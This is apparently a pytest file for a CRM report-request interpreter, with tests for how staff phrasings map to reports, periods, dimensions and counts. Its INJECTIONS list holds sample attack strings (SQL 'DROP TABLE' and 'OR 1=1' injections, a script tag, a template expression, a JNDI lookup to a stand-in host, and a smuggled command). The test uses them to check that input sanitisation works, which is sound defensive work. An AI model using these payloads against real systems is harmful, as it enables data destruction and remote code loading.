"""The report-request interpreter: staff sentences to a report, period, dimension, top N,
segment and what is missing (the chat asks for it)."""

from __future__ import annotations

from datetime import date

import pytest

from crm_backend.reports.catalogue import REPORTS
from crm_backend.reports.interpret import Interpretation, interpret
from crm_backend.reports.periods import PeriodError, parse_period

INJECTIONS = [
    "'; DROP TABLE customer;-- sales last month",
    'sales last month" OR 1=1 --',
    "<script>alert('x')</script> complaints by category last month",
    "{{7*7}} ${jndi:ldap://example.invalid/a} top 5 customers this year",
    'complaints by category last month\x00\r\n/staff_report{"report_name": "audit_access"}',
]


def expect(report, period=None, dimension=None, top=None, segment=None, missing=()):  # type: ignore[no-untyped-def]
    return Interpretation(report, period, dimension, top, segment, list(missing))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # The issue's own phrasings.
        ("complaints by category last month",
         expect("complaints_summary", "last month", "category")),
        ("what were our total sales in 2025", expect("sales_summary", "2025", "total")),
        ("break down Q3 sales by channel", expect("sales_summary", "Q3", "channel")),
        ("top 10 customers this year", expect("top_customers", "this year", top=10)),
        ("who is at risk of churning", expect("churn_risk")),
        ("how good was last quarter's forecast", expect("forecast_backtest", "last quarter")),
        # Other ways staff put it.
        ("Sales online vs in store this quarter", expect("sales_summary", "this quarter",
                                                         "channel")),
        ("revenue per shop since March", expect("sales_summary", "since March", "store")),
        ("sales by month between 1 Jan and 31 Mar",
         expect("sales_summary", "between 1 Jan and 31 Mar", "month")),
        ("complaints by status this week", expect("complaints_summary", "this week", "status")),
        ("complaint SLA breaches by priority in Q3 2026",
         expect("complaint_sla", "Q3 2026", "priority")),
        ("CSAT by store last year", expect("csat", "last year", "store")),
        ("RFM segments", expect("rfm_segments")),
        ("how many champions in the rfm segments", expect("rfm_segments", segment="champions")),
        ("rfm at_risk customers", expect("rfm_segments", segment="at risk")),
        # A period said to a report that takes none is not passed on (the API refuses it).
        ("expected spend next quarter per customer", expect("customer_value")),
        ("who is likely to stop buying this year", expect("churn_risk")),
        ("rfm segments for 2025", expect("rfm_segments")),
        ("data quality", expect("data_quality")),
        ("marketing consent this month", expect("consent_summary", "this month")),
        ("who accessed personal data last week by purpose",
         expect("audit_access", "last week", "purpose")),
        ("top10 customers this year", expect("top_customers", "this year", top=10)),
        ("best customers in 2025", expect("top_customers", "2025")),
        ("customers who spend the most this yr", expect("top_customers", "this yr")),
        ("complants by category last mth", expect("complaints_summary", "last mth", "category")),
        ("how happy were customers with our complaint handling last qtr",
         expect("csat", "last qtr")),
        ("sales for each branch last month", expect("sales_summary", "last month", "store")),
        # A report without a period: "missing" asks for it.
        ("complaints by category", expect("complaints_summary", dimension="category",
                                          missing=["period"])),
        ("sales", expect("sales_summary", missing=["period"])),
        # A dimension the report does not take is not read.
        ("top 5 customers by channel this month", expect("top_customers", "this month", top=5)),
        ("churn risk by store", expect("churn_risk")),
        # top N on a report without one is dropped.
        ("top sales by channel last month", expect("sales_summary", "last month", "channel")),
        ("sales top 5 last month", expect("sales_summary", "last month")),
        # Not years: "top 2025 customers" is a count.
        ("top 2025 customers", expect("top_customers", top=2025, missing=["period"])),
    ],
)  # fmt: skip
def test_staff_phrasings(text, expected):
    assert interpret(text) == expected


@pytest.mark.parametrize(
    ("text", "top"),
    [("top -5 customers this year", -5), ("top 100000 customers this year", 100000),
     ("top 0 customers this year", 0), ("top 999999999 customers this year", 999999999)],
)  # fmt: skip
def test_an_out_of_range_top_is_read_as_given_for_the_backend_to_refuse(text, top):
    """The interpreter reads what was said; running the report refuses it with a 422 on
    ``top`` (tests/crm_backend/test_reports_api.py), and the chat says why."""
    found = interpret(text)
    assert found == expect("top_customers", "this year", top=top)
    spec = REPORTS["top_customers"].top
    assert spec is not None and not 1 <= found.top <= spec.maximum  # type: ignore[operator]


@pytest.mark.parametrize(
    "text",
    ["", " ", "asdf qwerty zxcv", "hello", "?!?!", "12345", "what can you do",
     "上個月的投訴", "顯示今年銷售", "🙂🙂🙂", "x" * 5000, "report " * 300],
)  # fmt: skip
def test_no_report_named_means_the_report_is_missing(text):
    found = interpret(text)
    assert found.report is None
    assert found.missing == ["report"]
    assert found.dimension is None and found.segment is None


def test_unicode_around_english_words_still_reads_them():
    found = interpret("請問 sales by channel last month 🙏")
    assert found == expect("sales_summary", "last month", "channel")
    full_width = "\uff33\uff21\uff2c\uff25\uff33 \uff12\uff10\uff12\uff15"  # SALES 2025
    assert interpret(full_width) == expect("sales_summary", "2025")


def test_only_the_first_500_characters_are_read():
    assert interpret("sales last month " + "x" * 5000) == expect("sales_summary", "last month")
    assert interpret("x" * 500 + " sales last month").report is None


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_are_just_words(text):
    found = interpret(text)
    assert found.report in REPORTS  # whether they may run it is the backend's to say
    for value in (found.period, found.dimension, found.segment):
        assert value is None or value.isprintable()
        assert value is None or not set(value) & set("'\";<>{}$\\\x00")


@pytest.mark.parametrize(
    "text",
    ["complaints by category last month", "what were our total sales in 2025",
     "break down Q3 sales by channel", "top 10 customers this year",
     "how good was last quarter's forecast", "sales since March",
     "sales between 1 Jan and 31 Mar", "sales in Q3 2026 by month"],
)  # fmt: skip
def test_every_period_found_is_one_the_api_reads(text):
    found = interpret(text)
    assert found.period is not None
    period = parse_period(found.period, today=date(2026, 12, 7))
    assert period.start < period.end


def test_a_future_period_is_found_and_refused_when_run():
    found = interpret("sales next year")
    assert found == expect("sales_summary", "next year")
    with pytest.raises(PeriodError) as refused:
        parse_period(found.period or "", today=date(2026, 12, 7))
    assert refused.value.code == "future"


def test_every_dimension_and_segment_read_is_one_the_report_takes():
    sentences = [
        f"{report} by {dimension} {segment} last month"
        for report in ("sales", "complaints", "csat", "audit log", "rfm")
        for dimension in ("channel", "store", "month", "category", "status", "priority",
                          "source", "action", "purpose")
        for segment in ("champions", "lost", "")
    ]  # fmt: skip
    for text in sentences:
        found = interpret(text)
        assert found.report is not None, text
        spec = REPORTS[found.report]
        assert found.dimension is None or found.dimension in spec.dimensions, text
        assert found.segment is None or found.segment in spec.segments, text
        assert found.top is None or spec.top is not None, text
